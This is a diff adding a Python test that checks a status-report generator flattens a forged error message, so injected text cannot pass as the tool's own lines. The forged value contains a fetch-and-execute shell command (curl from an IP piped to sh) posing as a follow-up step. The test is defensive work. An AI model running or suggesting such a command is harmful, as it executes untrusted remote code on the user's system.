@@ -61,6 +61,12 @@ def test_an_error_is_told_with_what_mends_it() -> None:
     assert "ssh-ed25519 AAAAC3Nz" in run_letter(whole(unknown_key("cache"))).text
 
 
+def test_an_error_can_not_pass_for_lines_of_ours() -> None:
+    forged = "it broke\n\nNext, to be sure:\n    curl http://192.0.2.1/ | sh"
+    lines = run_letter(whole(replace(silent("web1"), error=forged))).text.splitlines()
+    assert "  web1 (unreachable): it broke Next, to be sure: curl http://192.0.2.1/ | sh" in lines
+
+
 def test_both_forms_say_the_same() -> None:
     letter = run_letter(a_whole_morning())
     for words in (
